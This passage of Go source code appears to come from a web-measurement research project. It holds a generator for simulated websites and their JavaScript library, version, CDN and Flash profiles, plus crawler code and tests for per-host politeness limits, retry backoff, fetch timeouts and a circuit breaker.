		frozen: 0.60, manual: 0.30, auto: 0.10, majorPin: 0.60,
		initial: []versionWeight{
			{"1.14.0", 12}, {"1.13.0", 8}, {"1.12.0", 6},
		},
		spreadWeight: 8,
	},
	{
		slug: "moment", usage: 0.016, external: 0.296, cdnShare: 0.716,
		adoptDuring: 0.06, dropDuring: 0.08,
		frozen: 0.60, manual: 0.32, auto: 0.08, majorPin: 0.20,
		initial: []versionWeight{
			{"2.18.1", 9}, {"2.10.6", 4}, {"2.17.0", 4}, {"2.19.3", 4},
			{"2.9.0", 3}, {"2.19.1", 2},
		},
		spreadWeight: 16,
	},
	{
		slug: "requirejs", usage: 0.016, external: 0.352, cdnShare: 0.281,
		adoptDuring: 0.04, dropDuring: 0.06,
		frozen: 0.35, manual: 0.45, auto: 0.20, majorPin: 0.20,
		initial: []versionWeight{
			{"2.3.5", 16}, {"2.3.2", 6}, {"2.1.22", 5}, {"2.2.0", 4},
		},
		spreadWeight: 8,
	},
	{
		slug: "swfobject", usage: 0.013, external: 0.258, cdnShare: 0.633,
		adoptDuring: 0.01, dropDuring: 0.25,
		frozen: 0.95, manual: 0.05, auto: 0.0, majorPin: 0.50,
		initial: []versionWeight{
			{"2.2", 60}, {"2.1", 25}, {"1.5", 10},
		},
		spreadWeight: 0,
	},
	{
		slug: "prototype", usage: 0.010, external: 0.188, cdnShare: 0.579,
		adoptDuring: 0.01, dropDuring: 0.10,
		frozen: 0.80, manual: 0.18, auto: 0.02, majorPin: 0.40,
		initial: []versionWeight{
			{"1.7.1", 43}, {"1.6.1", 15}, {"1.7.3", 10}, {"1.7.0", 8},
			{"1.6.0.3", 6},
		},
		spreadWeight: 8,
	},
	{
		slug: "jquery-cookie", usage: 0.010, external: 0.367, cdnShare: 0.865,
		adoptDuring: 0.01, dropDuring: 0.22,
		frozen: 0.90, manual: 0.10, auto: 0.0, majorPin: 0.50,
		initial: []versionWeight{
			{"1.4.1", 64}, {"1.3.1", 12}, {"1.4.0", 8},
		},
		spreadWeight: 8,
	},
	{
		slug: "polyfill", usage: 0.009, external: 0.855, cdnShare: 0.378,
		adoptDuring: 0.50, dropDuring: 0.02,
		frozen: 0.60, manual: 0.30, auto: 0.10, majorPin: 0.0,
		initial: []versionWeight{
			{"3", 65}, {"2", 25}, {"1", 10},
		},
		spreadWeight: 0,
	},
}

// CalibratedUsage returns the target average usage fraction for a top-15
// library slug (Table 1). Exposed for calibration tests and EXPERIMENTS.md.
func CalibratedUsage(slug string) (float64, bool) {
	for _, c := range calib {
		if c.slug == slug {
			return c.usage, true
		}
	}
	return 0, false
}

// wpInitial is the WordPress core version mix at the study start.
var wpInitial = []versionWeight{
	{"4.9", 50}, {"4.8", 12}, {"4.7", 10}, {"4.6", 5}, {"4.5", 4},
	{"4.0", 4}, {"3.7", 3},
}

// tailLibNames is the long-tail library pool (with the top 15 this makes 79
// distinct libraries, the count of Section 5).
var tailLibNames = []string{
	"lodash", "react", "vue", "angularjs", "backbone", "ember", "knockout",
	"d3", "three", "chart", "highcharts", "axios", "slick-carousel",
	"owl-carousel", "lazysizes", "fancybox", "waypoints", "gsap", "velocity",
	"hammer", "masonry", "flickity", "select2", "datatables", "dropzone",
	"clipboard", "sweetalert", "toastr", "typed", "particles", "aos", "wow",
	"scrollreveal", "swiper", "lightbox", "magnific-popup", "colorbox",
	"bxslider", "flexslider", "nivo-slider", "superfish", "fitvids",
	"matchheight", "imagesloaded", "infinite-scroll", "headroom", "sticky",
	"countup", "countdown", "parallax", "skrollr", "enquire", "respond",
	"html5shiv", "es5-shim", "promise-polyfill", "fetch-polyfill",
	"intersection-observer", "web-animations", "dayjs", "date-fns", "numeral",
	"accounting", "validator",
}

// pctStatic is the fraction of sites with no JavaScript at all; with the
// remaining sites' library draws this lands overall JS usage at the
// paper's 94.7 %.
const pctStatic = 0.053

// pctWordPress matches Figure 9 (26.9 % of sites are WordPress).
const pctWordPress = 0.269

// pctWPManagedJQuery is the share of WordPress sites whose jQuery (and
// jQuery-Migrate) come from WordPress core bundling rather than a theme's
// own pinned copy.
const pctWPManagedJQuery = 0.55

// pctWPMigrateTheme is the share of WordPress sites whose theme output
// includes the bundled jQuery-Migrate when core ships it.
const pctWPMigrateTheme = 0.72

// newSite draws a complete site profile. All randomness is derived from
// (cfg.Seed, rank) so profiles are independent of generation order.
func newSite(cfg Config, dom alexa.Domain) *Site {
	seed := mix(cfg.Seed, int64(dom.Rank))
	rng := rand.New(rand.NewSource(seed))
	s := &Site{Domain: dom, seed: seed, DeadFromWeek: -1}

	s.genAccessibility(cfg, rng)
	s.Static = rng.Float64() < pctStatic

	// Resource-type flags (Figure 2b targets).
	s.UsesCSS = rng.Float64() < 0.884
	s.UsesFavicon = rng.Float64() < 0.550
	// PHP-generated client-side resources imply a dynamic site, so
	// imported-HTML never appears on static (no-JS) sites.
	s.UsesImportedHTML = !s.Static && rng.Float64() < 0.318/(1-pctStatic)
	s.UsesXML = rng.Float64() < 0.256
	s.UsesSVG = rng.Float64() < 0.020
	s.UsesAXD = rng.Float64() < 0.008

	if s.Static {
		return s
	}
	s.CustomJS = rng.Float64() < 0.92

	s.genWordPress(cfg, rng)
	s.genLibraries(cfg, rng)
	s.genTail(rng)
	s.genFlash(cfg, rng)
	// Last and from its own RNG stream: the bundle profile must not shift
	// any draw above, or plain ecosystems would change shape.
	s.genBundle(cfg)
	return s
}

func (s *Site) genAccessibility(cfg Config, rng *rand.Rand) {
	// Death: ~22 % of domains disappear at a uniformly random week; lower
	// ranks are slightly more fragile.
	rankFrac := float64(s.Domain.Rank) / float64(cfg.Domains)
	pDead := 0.16 + 0.12*rankFrac
	if rng.Float64() < pDead {
		s.DeadFromWeek = rng.Intn(cfg.Weeks)
	}
	// Transient instability: a quarter of sites are flaky.
	if rng.Float64() < 0.25 {
		s.TransientFailP = 0.10 + 0.35*rng.Float64()
	} else {
		s.TransientFailP = 0.02 * rng.Float64()
	}
	s.AntiBot = rng.Float64() < 0.03
}

func (s *Site) genWordPress(cfg Config, rng *rand.Rand) {
	if rng.Float64() >= pctWordPress {
		return
	}
	s.WordPress = true
	s.WPInitial = semver.MustParse(pickWeighted(rng, wpInitial))
	switch x := rng.Float64(); {
	case x < 0.50:
		s.WPPolicy = PolicyAuto
		s.WPDelayDays = 7 + rng.Intn(49)
	case x < 0.80:
		s.WPPolicy = PolicyManual
		s.WPDelayDays = lognormalDays(rng, 380, 0.6)
	default:
		s.WPPolicy = PolicyFrozen
	}
	s.WPHasMigrate = rng.Float64() < pctWPMigrateTheme
}

func (s *Site) genLibraries(cfg Config, rng *rand.Rand) {
	wpManagedJQ := s.WordPress && rng.Float64() < pctWPManagedJQuery
	for _, c := range calib {
		use, ok := s.drawLibUse(cfg, rng, c, wpManagedJQ)
		if !ok {
			continue
		}
		s.Libs = append(s.Libs, use)
	}
}

// adjUsage compensates the ever-used probability for mid-study adoption and
// drops so the *time-averaged* usage lands on the Table 1 target.
func adjUsage(c libCalib) float64 {
	adj := c.usage / (1 - (c.adoptDuring+c.dropDuring)/2)
	if adj > 1 {
		adj = 1
	}
	return adj
}

// drawLibUse decides whether the site uses library c and builds the use.
func (s *Site) drawLibUse(cfg Config, rng *rand.Rand, c libCalib, wpManagedJQ bool) (LibUse, bool) {
	nonStatic := 1 - pctStatic
	usage := adjUsage(c)
	switch c.slug {
	case "jquery":
		if s.WordPress {
			return s.buildLibUse(cfg, rng, c, wpManagedJQ), true
		}
		// Solve total usage: WP share contributes pctWordPress of all
		// sites; the rest comes from non-WP sites.
		p := (usage - pctWordPress) / (nonStatic - pctWordPress)
		if rng.Float64() >= p {
			return LibUse{}, false
		}
		return s.buildLibUse(cfg, rng, c, false), true
	case "jquery-migrate":
		// WordPress core ships jQuery-Migrate independent of whether the
		// theme pins its own jQuery, so bundled Migrate is drawn for any
		// WP site whose theme renders it.
		if s.WordPress && s.WPHasMigrate {
			use := s.buildLibUse(cfg, rng, c, true)
			return use, true
		}
		if !s.hasLib("jquery") {
			return LibUse{}, false
		}
		if rng.Float64() >= usage/nonStatic {
			return LibUse{}, false
		}
		return s.buildLibUse(cfg, rng, c, false), true
	case "jquery-ui", "jquery-cookie":
		// jQuery plugins require jQuery.
		if !s.hasLib("jquery") {
			return LibUse{}, false
		}
		if rng.Float64() >= usage/(nonStatic*0.64) {
			return LibUse{}, false
		}
		return s.buildLibUse(cfg, rng, c, false), true
	default:
		if rng.Float64() >= usage/nonStatic {
			return LibUse{}, false
		}
		return s.buildLibUse(cfg, rng, c, false), true
	}
}

func (s *Site) hasLib(slug string) bool {
	for _, l := range s.Libs {
		if l.Slug == slug {
			return true
		}
	}
	return false
}

func (s *Site) buildLibUse(cfg Config, rng *rand.Rand, c libCalib, managedByWP bool) LibUse {
	use := LibUse{Slug: c.slug, DropWeek: -1, ManagedByWP: managedByWP}

	// Usage trend: late adoption / mid-study drop (Figure 3 shapes).
	if rng.Float64() < c.adoptDuring {
		use.AdoptWeek = 1 + rng.Intn(cfg.Weeks-1)
	}
	if rng.Float64() < c.dropDuring {
		lo := use.AdoptWeek + 1
		if lo < cfg.Weeks {
			use.DropWeek = lo + rng.Intn(cfg.Weeks-lo)
		}
	}
	// jQuery-Cookie → JS-Cookie migration (Section 6.3: 39 % migrated).
	if c.slug == "jquery-cookie" && use.DropWeek >= 0 && rng.Float64() < 0.39 {
		use.SwitchTo = "js-cookie"
	}

	// Policy.
	switch x := rng.Float64(); {
	case x < c.frozen:
		use.Policy = PolicyFrozen
	case x < c.frozen+c.manual:
		use.Policy = PolicyManual
		// The delay scale lands the measured mean window of vulnerability
		// near the paper's 531.2 days (Section 7).
		use.DelayDays = lognormalDays(rng, 640, 0.6)
		use.MajorPinned = rng.Float64() < c.majorPin
		use.Regress = rng.Float64() < 0.06
	default:
		use.Policy = PolicyAuto
		use.DelayDays = 7 + rng.Intn(53)
	}

	// Initial version.
	use.Initial = s.pickInitialVersion(rng, c, use.AdoptWeek)

	// Inclusion type and host. WordPress-managed copies are mostly served
	// from the site itself, but wp.com-connected sites (Jetpack) load them
	// from the c0.wp.com platform CDN — the reason wp.com tops Table 5 for
	// jQuery-Migrate.
	switch {
	case managedByWP:
		if rng.Float64() < 0.12 {
			use.External = true
			use.Host = "c0.wp.com"
		}
	case rng.Float64() < c.external:
		use.External = true
		use.Host = pickHost(rng, c)
	}
	// SRI and crossorigin hygiene (Section 6.5): integrity is rare enough
	// that 99.7 % of sites keep at least one uncovered external library.
	if use.External && use.Host != "c0.wp.com" {
		if use.SRI = rng.Float64() < 0.012; use.SRI {
			switch x := rng.Float64(); {
			case x < 0.971:
				use.Crossorigin = "anonymous"
			case x < 0.990:
				use.Crossorigin = "use-credentials"
			}
		}
	}
	return use
}

// pickInitialVersion draws the version in use at adoption. Sites adopting
// mid-study start near the then-latest release; sites present from the
// start draw from the calibrated popularity table.
func (s *Site) pickInitialVersion(rng *rand.Rand, c libCalib, adoptWeek int) semver.Version {
	cat, ok := vulndb.CatalogFor(c.slug)
	if !ok || len(cat.Releases) == 0 {
		return semver.Version{}
	}
	adoptDate := WeekDate(adoptWeek)
	if adoptWeek > 0 {
		// Late adopter: latest or one of the few preceding releases.
		rels := cat.Releases
		var avail []vulndb.Release
		for _, rel := range rels {
			if !rel.Date.After(adoptDate) {
				avail = append(avail, rel)
			}
		}
		if len(avail) == 0 {
			return rels[0].Version
		}
		back := rng.Intn(3)
		// avail is ordered by version within lines; take from the top by
		// version.
		best := avail[0]
		for _, rel := range avail {
			if best.Version.Less(rel.Version) {
				best = rel
			}
		}
		if back == 0 {
			return best.Version
		}
		// Pick a random recent-ish available release instead.
		return avail[len(avail)-1-rng.Intn(minInt(len(avail), 4))].Version
	}
	// From-start site: weighted table plus uniform spread.
	total := c.spreadWeight
	for _, vw := range c.initial {
		total += vw.w
	}
	x := rng.Intn(total)
	for _, vw := range c.initial {
		if x < vw.w {
			return semver.MustParse(vw.v)
		}
		x -= vw.w
	}
	// Spread: uniform over pre-study releases.
	var avail []vulndb.Release
	for _, rel := range cat.Releases {
		if rel.Date.Before(studyStart) {
			avail = append(avail, rel)
		}
	}
	if len(avail) == 0 {
		return cat.Releases[0].Version
	}
	return avail[rng.Intn(len(avail))].Version
}

func pickHost(rng *rand.Rand, c libCalib) string {
	if rng.Float64() < c.cdnShare {
		hws := cdn.HostsForLibrary[c.slug]
		if len(hws) > 0 {
			total := 0
			for _, hw := range hws {
				total += hw.Weight
			}
			x := rng.Intn(total)
			for _, hw := range hws {
				if x < hw.Weight {
					return hw.Host
				}
				x -= hw.Weight
			}
		}
		return "cdnjs.cloudflare.com"
	}
	// Non-CDN external: mostly arbitrary third-party hosts, a sliver of
	// version-control pages hosting (Section 6.5: ~0.2 % of sites).
	if rng.Float64() < 0.05 {
		repo := cdn.GitHubRepos[rng.Intn(len(cdn.GitHubRepos))]
		return repo + ".github.io"
	}
	return "static.thirdparty-host.net"
}

func (s *Site) genTail(rng *rand.Rand) {
	for i, name := range tailLibNames {
		p := 0.12 * math.Pow(0.93, float64(i))
		if rng.Float64() >= p {
			continue
		}
		ver := pickTailVersion(rng)
		s.Tail = append(s.Tail, TailLib{Name: name, Version: ver})
	}
}

func pickTailVersion(rng *rand.Rand) string {
	major := 1 + rng.Intn(4)
	minor := rng.Intn(12)
	patch := rng.Intn(9)
	return itoa(major) + "." + itoa(minor) + "." + itoa(patch)
}

func (s *Site) genFlash(cfg Config, rng *rand.Rand) {
	// Base rate ≈ 1 % of the 1M (Figure 8: 9,880 sites at the start), with
	// top-ranked sites using less Flash and Chinese-operated sites more
	// (the Section 8 case study).
	p := 0.0099
	if s.Domain.Rank <= cfg.Domains/100 {
		p *= 0.45 // top 1 % band
	}
	if s.Domain.Country == "CN" {
		p *= 3.0
	}
	if rng.Float64() >= p {
		return
	}
	f := &FlashUse{DropWeek: -1, Visible: rng.Float64() < 0.5}
	// Decline: ~57 % drop before the EOL (Dec 2020, ~week 143), another
	// ~11 % between EOL and the end; Chinese sites hold on longer. Studies
	// shorter than the EOL week compress the windows proportionally.
	eolWeek := 143
	if eolWeek > cfg.Weeks {
		eolWeek = cfg.Weeks
	}
	keepBias := 1.0
	if s.Domain.Country == "CN" {
		keepBias = 2.2
	}
	switch x := rng.Float64() * keepBias; {
	case x < 0.57:
		f.DropWeek = rng.Intn(eolWeek)
	case x < 0.68 && cfg.Weeks > eolWeek:
		f.DropWeek = eolWeek + rng.Intn(cfg.Weeks-eolWeek)
	}
	// AllowScriptAccess: about half the embeds set the parameter; the
	// "always" misconfiguration concentrates among sites that never clean
	// up their Flash (Figure 11's rising insecure share).
	f.ScriptAccessParam = rng.Float64() < 0.55
	if f.ScriptAccessParam {
		pAlways := 0.52
		if f.DropWeek >= 0 {
			pAlways = 0.40
		}
		f.Always = rng.Float64() < pAlways
	}
	f.ViaSWFObject = s.hasLib("swfobject") || rng.Float64() < 0.20
	if f.ViaSWFObject {
		// Script-driven embeds render into a live slot; the invisible
		// leftovers of Section 8 are static markup.
		f.Visible = true
	}
	s.Flash = f
}

// pickWeighted draws from a weight table.
func pickWeighted(rng *rand.Rand, table []versionWeight) string {
	total := 0
	for _, vw := range table {
		total += vw.w
	}
	x := rng.Intn(total)
	for _, vw := range table {
		if x < vw.w {
			return vw.v
		}
		x -= vw.w
	}
	return table[0].v
}

// lognormalDays draws a log-normal day count with the given mean and sigma
// (of the underlying normal).
func lognormalDays(rng *rand.Rand, mean float64, sigma float64) int {
	// mean of lognormal = exp(mu + sigma^2/2)  =>  mu = ln(mean) - s^2/2.
	mu := math.Log(mean) - sigma*sigma/2
	v := math.Exp(mu + sigma*rng.NormFloat64())
	if v < 1 {
		v = 1
	}
	return int(v)
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var buf [8]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = byte('0' + n%10)
		n /= 10
	}
	return string(buf[i:])
}
