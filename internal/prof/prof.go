// Package prof backs the -cpuprofile/-memprofile flags of the CLI
// commands, so perf work on the pipeline's hot paths (store decode, crawl
// fingerprinting) can be profiled with the stock pprof toolchain instead
// of ad-hoc instrumentation patches.
package prof

import (
	"fmt"
	"os"
	"runtime"
	"runtime/pprof"
)

// StartCPU begins a CPU profile written to path and returns the function
// that stops it and closes the file. An empty path disables profiling;
// the returned stop is never nil either way.
func StartCPU(path string) (stop func(), err error) {
	if path == "" {
		return func() {}, nil
	}
	f, err := os.Create(path)
	if err != nil {
		return nil, fmt.Errorf("cpuprofile: %w", err)
	}
	if err := pprof.StartCPUProfile(f); err != nil {
		_ = f.Close()
		return nil, fmt.Errorf("cpuprofile: %w", err)
	}
	return func() {
		pprof.StopCPUProfile()
		_ = f.Close()
	}, nil
}

// WriteHeap writes a heap profile to path, running a GC first so the
// profile reflects live memory rather than collectable garbage. An empty
// path is a no-op.
func WriteHeap(path string) error {
	if path == "" {
		return nil
	}
	f, err := os.Create(path)
	if err != nil {
		return fmt.Errorf("memprofile: %w", err)
	}
	defer f.Close()
	runtime.GC()
	if err := pprof.WriteHeapProfile(f); err != nil {
		return fmt.Errorf("memprofile: %w", err)
	}
	return nil
}
