package crawler

import (
	"context"
	"sort"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// Concurrent acquirers on one host start at least minGap apart. The starts
// are claimed under a lock on the host's schedule, so the guarantee is
// exact up to timer granularity; the assertion allows a small slop.
func TestPolitenessGapEnforcedUnderConcurrency(t *testing.T) {
	const n = 5
	minGap := 40 * time.Millisecond
	p := NewPoliteness(1, minGap)
	starts := make([]time.Time, n)
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			if err := p.Acquire(context.Background(), "one.example"); err != nil {
				t.Error(err)
				return
			}
			starts[i] = time.Now()
			p.Release("one.example")
		}(i)
	}
	wg.Wait()
	sort.Slice(starts, func(i, j int) bool { return starts[i].Before(starts[j]) })
	for i := 1; i < n; i++ {
		if gap := starts[i].Sub(starts[i-1]); gap < minGap-10*time.Millisecond {
			t.Errorf("starts %d and %d only %v apart, want ≥ %v", i-1, i, gap, minGap)
		}
	}
}

// The in-flight bound holds: with 2 slots, at most 2 requests are ever
// inside Acquire/Release simultaneously, however many workers pile on.
func TestPolitenessInFlightBound(t *testing.T) {
	p := NewPoliteness(2, 0)
	var inFlight, maxSeen atomic.Int32
	var wg sync.WaitGroup
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if err := p.Acquire(context.Background(), "busy.example"); err != nil {
				t.Error(err)
				return
			}
			cur := inFlight.Add(1)
			for {
				m := maxSeen.Load()
				if cur <= m || maxSeen.CompareAndSwap(m, cur) {
					break
				}
			}
			time.Sleep(5 * time.Millisecond)
			inFlight.Add(-1)
			p.Release("busy.example")
		}()
	}
	wg.Wait()
	if m := maxSeen.Load(); m > 2 {
		t.Errorf("observed %d concurrent in-flight requests, bound is 2", m)
	}
}

// Politeness is per-host: a large gap on one host never delays another.
func TestPolitenessHostsIndependent(t *testing.T) {
	p := NewPoliteness(1, time.Second)
	start := time.Now()
	for _, host := range []string{"a.example", "b.example", "c.example"} {
		if err := p.Acquire(context.Background(), host); err != nil {
			t.Fatal(err)
		}
		p.Release(host)
	}
	if elapsed := time.Since(start); elapsed > 500*time.Millisecond {
		t.Errorf("first acquires across 3 hosts took %v; hosts are serializing", elapsed)
	}
}

// A context cancelled while waiting out the gap aborts the wait and returns
// the slot, so later acquirers don't deadlock on a leaked semaphore.
func TestPolitenessAcquireCancelReleasesSlot(t *testing.T) {
	p := NewPoliteness(1, 5*time.Second)
	if err := p.Acquire(context.Background(), "gap.example"); err != nil {
		t.Fatal(err)
	}
	p.Release("gap.example")
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Millisecond)
	defer cancel()
	if err := p.Acquire(ctx, "gap.example"); err == nil {
		t.Fatal("acquire inside a 5s gap should fail on a 30ms context")
	}
	// The slot must be free again: a third acquirer blocks on the gap, not
	// on a leaked slot — distinguish by cancelling and checking the error
	// arrives promptly.
	ctx2, cancel2 := context.WithTimeout(context.Background(), 30*time.Millisecond)
	defer cancel2()
	done := make(chan error, 1)
	go func() { done <- p.Acquire(ctx2, "gap.example") }()
	select {
	case err := <-done:
		if err == nil {
			t.Error("expected context error")
		}
	case <-time.After(2 * time.Second):
		t.Fatal("acquire did not honor its context; slot likely leaked")
	}
}
