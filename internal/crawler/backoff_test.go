package crawler

import (
	"testing"
	"time"
)

// The backoff schedule is deterministic: same (Seed, host, attempt) → same
// delay, every time. Tests (and incident reproductions) can pin schedules.
func TestBackoffDeterministic(t *testing.T) {
	a := Backoff{Seed: 42}
	b := Backoff{Seed: 42}
	for attempt := 1; attempt <= 8; attempt++ {
		for _, host := range []string{"news1.com", "shop2.org", "blog3.net"} {
			if da, db := a.Delay(host, attempt), b.Delay(host, attempt); da != db {
				t.Errorf("seed 42 %s attempt %d: %v != %v", host, attempt, da, db)
			}
		}
	}
}

// Each delay lands in [raw/2, raw) where raw is the capped exponential
// base*Factor^(attempt-1) — jitter halves at worst, never exceeds.
func TestBackoffBounds(t *testing.T) {
	b := Backoff{Base: 100 * time.Millisecond, Max: 2 * time.Second, Factor: 2, Seed: 1}
	for attempt := 1; attempt <= 10; attempt++ {
		raw := 100 * time.Millisecond << (attempt - 1)
		if raw > 2*time.Second {
			raw = 2 * time.Second
		}
		d := b.Delay("site.example", attempt)
		if d < raw/2 || d >= raw {
			t.Errorf("attempt %d: delay %v outside [%v, %v)", attempt, d, raw/2, raw)
		}
	}
}

// The cap holds: late attempts never exceed Max.
func TestBackoffCap(t *testing.T) {
	b := Backoff{Base: 50 * time.Millisecond, Max: 300 * time.Millisecond, Seed: 3}
	for attempt := 5; attempt <= 30; attempt++ {
		if d := b.Delay("slow.example", attempt); d >= 300*time.Millisecond {
			t.Errorf("attempt %d: delay %v ≥ cap", attempt, d)
		}
	}
}

// Different hosts draw different jitter so synchronized failures don't
// retry in lockstep; different seeds reshuffle the whole schedule.
func TestBackoffJitterVaries(t *testing.T) {
	b := Backoff{Seed: 7}
	hosts := []string{"a.com", "b.com", "c.com", "d.com", "e.com"}
	seen := map[time.Duration]bool{}
	for _, h := range hosts {
		seen[b.Delay(h, 1)] = true
	}
	if len(seen) < 2 {
		t.Errorf("all %d hosts share one first-retry delay; jitter is not per-host", len(hosts))
	}
	other := Backoff{Seed: 8}
	diff := 0
	for _, h := range hosts {
		if b.Delay(h, 1) != other.Delay(h, 1) {
			diff++
		}
	}
	if diff == 0 {
		t.Error("changing the seed changed no delay")
	}
}

// The zero value works and reproduces the old fixed-sleep magnitude for
// the first retry (50ms base, jittered down to no less than half).
func TestBackoffZeroValueDefaults(t *testing.T) {
	var b Backoff
	d := b.Delay("any.example", 1)
	if d < 25*time.Millisecond || d >= 50*time.Millisecond {
		t.Errorf("zero-value first delay %v outside [25ms, 50ms)", d)
	}
	if d2 := b.Delay("any.example", 0); d2 != d {
		t.Errorf("attempt < 1 should clamp to 1: %v != %v", d2, d)
	}
}
