package crawler

import (
	"context"
	"sync"
	"time"
)

// Politeness enforces per-host request discipline: at most maxInFlight
// concurrent requests to any one host, and at least minGap between
// consecutive request starts on a host. Worker-pool concurrency stays
// unconstrained across hosts — only same-host pressure queues.
type Politeness struct {
	slots  int
	minGap time.Duration

	mu    sync.Mutex
	hosts map[string]*hostGate
}

type hostGate struct {
	sem chan struct{}
	mu  sync.Mutex
	// next is the earliest instant the host's next request may start; each
	// admitted request pushes it minGap further.
	next time.Time
}

// NewPoliteness builds a limiter. maxInFlight below 1 becomes 1; a
// non-positive minGap disables gap enforcement (the in-flight bound still
// applies).
func NewPoliteness(maxInFlight int, minGap time.Duration) *Politeness {
	if maxInFlight < 1 {
		maxInFlight = 1
	}
	if minGap < 0 {
		minGap = 0
	}
	return &Politeness{slots: maxInFlight, minGap: minGap, hosts: make(map[string]*hostGate)}
}

func (p *Politeness) gate(host string) *hostGate {
	p.mu.Lock()
	defer p.mu.Unlock()
	g := p.hosts[host]
	if g == nil {
		g = &hostGate{sem: make(chan struct{}, p.slots)}
		p.hosts[host] = g
	}
	return g
}

// Acquire blocks until host has a free in-flight slot and its inter-request
// gap has elapsed, or ctx is done. Every successful Acquire must be paired
// with a Release.
func (p *Politeness) Acquire(ctx context.Context, host string) error {
	g := p.gate(host)
	select {
	case g.sem <- struct{}{}:
	case <-ctx.Done():
		return ctx.Err()
	}
	if p.minGap <= 0 {
		return nil
	}
	// Claim the next start on the host's schedule, then sleep to it. The
	// claim happens under the lock so concurrent acquirers get distinct,
	// minGap-spaced starts; the sleep happens outside it.
	g.mu.Lock()
	now := time.Now()
	start := g.next
	if start.Before(now) {
		start = now
	}
	g.next = start.Add(p.minGap)
	g.mu.Unlock()
	if wait := time.Until(start); wait > 0 {
		t := time.NewTimer(wait)
		defer t.Stop()
		select {
		case <-t.C:
		case <-ctx.Done():
			<-g.sem
			return ctx.Err()
		}
	}
	return nil
}

// Release returns host's in-flight slot.
func (p *Politeness) Release(host string) {
	<-p.gate(host).sem
}
