package crawler

import (
	"context"
	"net/http/httptest"
	"testing"
	"time"

	"clientres/internal/webgen"
	"clientres/internal/webserver"
)

func TestFetchTimeout(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 30, Seed: 6})
	srv := webserver.New(eco)
	srv.Latency = 300 * time.Millisecond
	ts := httptest.NewServer(srv)
	defer ts.Close()

	var healthy string
	for i := range eco.Sites {
		if eco.Truth(i, 0).Accessible {
			healthy = eco.Sites[i].Domain.Name
			break
		}
	}
	if healthy == "" {
		t.Skip("no healthy site")
	}

	// A timeout shorter than the latency fails at the connection level.
	fast := New(Config{BaseURL: ts.URL, Timeout: 50 * time.Millisecond, Retries: 1})
	page := fast.Fetch(context.Background(), 0, healthy)
	if page.Err == nil {
		t.Error("sub-latency timeout should fail")
	}
	// A generous timeout succeeds.
	slow := New(Config{BaseURL: ts.URL, Timeout: 5 * time.Second})
	page = slow.Fetch(context.Background(), 0, healthy)
	if page.Err != nil || page.Status != 200 {
		t.Errorf("generous timeout should succeed: status %d err %v", page.Status, page.Err)
	}
}

func TestMaxBodyBytesCapsPage(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 30, Seed: 6})
	ts := httptest.NewServer(webserver.New(eco))
	defer ts.Close()
	var healthy string
	for i := range eco.Sites {
		if eco.Truth(i, 0).Accessible {
			healthy = eco.Sites[i].Domain.Name
			break
		}
	}
	c := New(Config{BaseURL: ts.URL, MaxBodyBytes: 128})
	page := c.Fetch(context.Background(), 0, healthy)
	if page.Err != nil {
		t.Fatal(page.Err)
	}
	if len(page.Body) > 128 {
		t.Errorf("body = %d bytes, cap 128", len(page.Body))
	}
}
