package crawler

import (
	"testing"
	"time"
)

// testClock is an injectable, manually-advanced clock for breaker tests.
type testClock struct{ t time.Time }

func (c *testClock) now() time.Time          { return c.t }
func (c *testClock) advance(d time.Duration) { c.t = c.t.Add(d) }

func newTestBreaker(threshold int, cooldown time.Duration) (*Breaker, *testClock) {
	b := NewBreaker(threshold, cooldown)
	clk := &testClock{t: time.Unix(1_700_000_000, 0)}
	b.now = clk.now
	return b, clk
}

func TestBreakerOpensAtThreshold(t *testing.T) {
	b, _ := newTestBreaker(3, time.Minute)
	host := "flaky.example"
	if !b.Allow(host) {
		t.Fatal("fresh host should be allowed")
	}
	if b.Failure(host) {
		t.Error("failure 1 should not trip")
	}
	if b.Failure(host) {
		t.Error("failure 2 should not trip")
	}
	if !b.Allow(host) {
		t.Error("closed circuit under threshold should still allow")
	}
	if !b.Failure(host) {
		t.Error("failure 3 should trip the circuit")
	}
	if b.Allow(host) {
		t.Error("open circuit should shed")
	}
}

func TestBreakerSuccessResetsStreak(t *testing.T) {
	b, _ := newTestBreaker(3, time.Minute)
	host := "recovers.example"
	b.Failure(host)
	b.Failure(host)
	b.Success(host)
	if b.Failure(host) || b.Failure(host) {
		t.Error("streak should have reset on success; two failures must not trip")
	}
	if !b.Failure(host) {
		t.Error("third consecutive failure after reset should trip")
	}
}

func TestBreakerHalfOpenRecovery(t *testing.T) {
	b, clk := newTestBreaker(2, 30*time.Second)
	host := "down-then-up.example"
	b.Failure(host)
	if !b.Failure(host) {
		t.Fatal("second failure should trip")
	}
	if b.Allow(host) {
		t.Fatal("should shed during cooldown")
	}
	clk.advance(29 * time.Second)
	if b.Allow(host) {
		t.Fatal("cooldown not yet elapsed")
	}
	clk.advance(2 * time.Second)
	if !b.Allow(host) {
		t.Fatal("cooldown elapsed: one half-open probe should be admitted")
	}
	if b.Allow(host) {
		t.Error("only one probe at a time while half-open")
	}
	b.Success(host)
	if !b.Allow(host) || !b.Allow(host) {
		t.Error("successful probe should close the circuit fully")
	}
}

func TestBreakerHalfOpenFailureReopens(t *testing.T) {
	b, clk := newTestBreaker(2, 10*time.Second)
	host := "still-down.example"
	b.Failure(host)
	b.Failure(host)
	clk.advance(11 * time.Second)
	if !b.Allow(host) {
		t.Fatal("probe should be admitted after cooldown")
	}
	if !b.Failure(host) {
		t.Error("failed probe should count as a trip")
	}
	if b.Allow(host) {
		t.Error("failed probe should re-open the circuit")
	}
	clk.advance(11 * time.Second)
	if !b.Allow(host) {
		t.Error("a fresh cooldown should admit another probe")
	}
}

// Stragglers — requests that passed Allow before the trip and failed after
// it — must not re-count as trips or push the cooldown out.
func TestBreakerAbsorbsFailuresWhileOpen(t *testing.T) {
	b, clk := newTestBreaker(1, 10*time.Second)
	host := "stragglers.example"
	if !b.Failure(host) {
		t.Fatal("threshold 1 should trip on the first failure")
	}
	clk.advance(9 * time.Second)
	if b.Failure(host) {
		t.Error("failure while open must not count as a new trip")
	}
	clk.advance(2 * time.Second)
